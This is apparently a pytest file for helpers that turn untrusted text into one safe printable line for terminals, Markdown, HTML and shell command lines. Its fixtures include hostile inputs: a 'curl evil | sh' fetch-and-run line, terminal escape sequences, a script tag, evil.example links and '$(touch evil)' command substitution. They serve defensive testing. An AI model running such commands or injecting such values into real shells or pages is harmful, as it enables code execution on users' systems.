"""Outside text: whatever it is, a terminal, Markdown and HTML show one harmless line."""

import html
import os
import random
import shutil
import subprocess
import time

import pytest
from markdown_it import MarkdownIt

from search_space.boundary.text import code, command_line, html_text, last_line, markdown, one_line, reason_of, shown

NASTY = [
    "screw\n```\ncurl evil | sh\n```",
    "\x1b[31mred\x1b[0m \x1b]8;;http://evil\x07link\x1b]8;;\x07",
    "# heading",
    "1. list",
    "- item",
    "> quote",
    "--- rule",
    "===",
    "[text](http://evil.example)",
    "![picture](x.png)",
    "<script>alert(1)</script>",
    "<http://evil.example>",
    "https://evil.example/a_b and www.evil.example",
    "a | b | c",
    "`code` ``more",
    "**bold** _slanted_ snake_case ~~gone~~ $x$",
    "&lt; &#60; &amp;",
    "right\u202eto left\u200b\ufeff",
    "\ud800 alone",
    "\\",
    "a\r\nb\u2028c\u0085d\x0be\x00",
]


def random_texts(count: int = 3000) -> list[str]:
    rng = random.Random(0)
    pieces = [*"\\`*_{}[]()<>#+-!|~&;:@^=.$1a \n\t\x1b", "http", "www", "://", "&#", "```", "---", "1."]
    return ["".join(rng.choices(pieces, k=rng.randint(0, 14))) for _ in range(count)]


@pytest.mark.parametrize("text", NASTY, ids=range(len(NASTY)))
def test_a_line_is_one_printable_line(text: str) -> None:
    line = one_line(text)
    assert line.splitlines() in ([line], [])
    assert all(letter.isprintable() or letter == "\ufffd" for letter in line)
    line.encode()


def test_words_of_all_scripts_and_emoji_stay() -> None:
    text = "Schraube, größer; винт; ねじ; नमस्ते; می‌خواهم; 👩‍🔧"
    assert one_line(text) == text


def test_a_long_text_is_cut_with_an_ellipsis() -> None:
    assert one_line("abcdef", most=4) == "abc…"
    assert one_line("abcd", most=4) == "abcd"
    assert one_line("x" * 1000) == "x" * 299 + "…"
    assert one_line("a" + " " * 10_000 + "b", most=10) == "a…"


def test_a_huge_text_is_not_gone_through() -> None:
    huge = "\n" * 10**8
    began = time.process_time()
    assert one_line(huge) == "…"
    assert time.process_time() - began < 1


def test_markdown_shows_the_text_and_nothing_else() -> None:
    parser = MarkdownIt("commonmark").enable(["table", "strikethrough"])
    for text in NASTY + random_texts():
        if one_line(text):
            check_markdown(text, parser)


def check_markdown(text: str, parser: MarkdownIt) -> None:
    expected = one_line(text)
    cell = parser.render(f"| {markdown(text)} |\n| --- |\n| {markdown(text)} |\n")
    for rendered, before, after in (
        (parser.render(markdown(text)), "<p>", "</p>\n"),
        (parser.render(f"# {markdown(text)}."), "<h1>", ".</h1>\n"),
        (parser.render(f"- board: {markdown(text)}"), "<ul>\n<li>board: ", "</li>\n</ul>\n"),
    ):
        assert rendered.startswith(before), rendered
        assert rendered.endswith(after), rendered
        inner = rendered.removeprefix(before).removesuffix(after)
        assert html.unescape(inner).strip() == expected.strip()
        assert "<" not in inner
    assert cell.count("<td>") == cell.count("<th>") == 1
    assert html.unescape(cell.split("<td>")[1].split("</td>")[0]) == expected


def test_code_shows_the_text_as_it_is() -> None:
    for text in NASTY + random_texts(500):
        rendered = MarkdownIt("commonmark").render(f"a {code(text)} b")
        assert html.unescape(rendered.split("<code>")[1].split("</code>")[0]).strip() == one_line(text)
        assert rendered.count("<") == 4


def test_addresses_are_no_links_for_viewers_that_look_for_them() -> None:
    parser = MarkdownIt("gfm-like", {"linkify": False})
    assert "<a" not in parser.render(markdown("see https://evil.example or www.evil.example"))
    assert "https\\:" in markdown("https://evil.example")
    assert "www\\." in markdown("www.evil.example")


@pytest.mark.parametrize("text", NASTY, ids=range(len(NASTY)))
def test_html_shows_the_text(text: str) -> None:
    escaped = html_text(text + "\"'")
    assert not set("<>\"'") & set(escaped)
    assert html.unescape(escaped) == one_line(text + "\"'")


def test_names_stay_readable_in_markdown() -> None:
    assert markdown("Raspberry Pi 4 Model B Rev 1.4, fbnet_micro-96 (test.v2)") == (
        "Raspberry Pi 4 Model B Rev 1.4, fbnet_micro-96 (test.v2)"
    )


def nested(depth: int) -> object:
    value: object = []
    for _ in range(depth):
        value = [value]
    return value


@pytest.mark.parametrize(
    "value",
    [10**5000, nested(10_000), "x" * 10**7, b"x" * 10**7, list(range(10**6)), {"a": {"b": nested(9)}}],
    ids=["number", "nested", "text", "bytes", "list", "mixed"],
)
def test_outside_values_are_shown_bounded(value: object) -> None:
    text = shown(value)
    assert 0 < len(text) <= 120
    assert text == one_line(text)


def test_small_values_are_shown_as_they_are() -> None:
    assert shown({"a": [1, 2.5, None, "b"]}) == "{'a': [1, 2.5, None, 'b']}"


def test_an_error_is_one_line() -> None:
    assert reason_of(ValueError("first\n  second.")) == "first second"
    assert reason_of(RecursionError()) == "RecursionError"


@pytest.mark.skipif(shutil.which("bash") is None, reason="needs bash")
def test_a_command_line_is_taken_apart_into_its_words() -> None:
    words = [
        "plain", "two words", "it's", "a\nb", "\x1b[31m", "$(touch evil)", "`x`", "\x011'\\n", "-x", "",
        "\u202etxt", "a\udcffb",
    ]  # fmt: skip
    line = command_line(["printf", r"%s\0", *words])
    assert line.isprintable()
    told = subprocess.run(["bash", "-c", line], capture_output=True, check=True).stdout
    assert told.split(b"\0")[:-1] == [os.fsencode(word) for word in words]


def test_what_is_one_line_already_is_left_as_it_is() -> None:
    rng = random.Random(1)
    letters = "ab  \t\n\u00a0\u200d\x1b\u2028é"
    for _ in range(2000):
        text = "".join(rng.choices(letters, k=rng.randint(0, 8)))
        clean = one_line(text)
        assert one_line(clean) == clean
        assert one_line(text + "\x00").rstrip("\ufffd ") == clean.rstrip("\ufffd ")


def test_the_last_line_says_what_an_error_came_to() -> None:
    assert last_line("Traceback:\n  here\nValueError: no\n\n") == "ValueError: no"
    assert last_line("") == ""
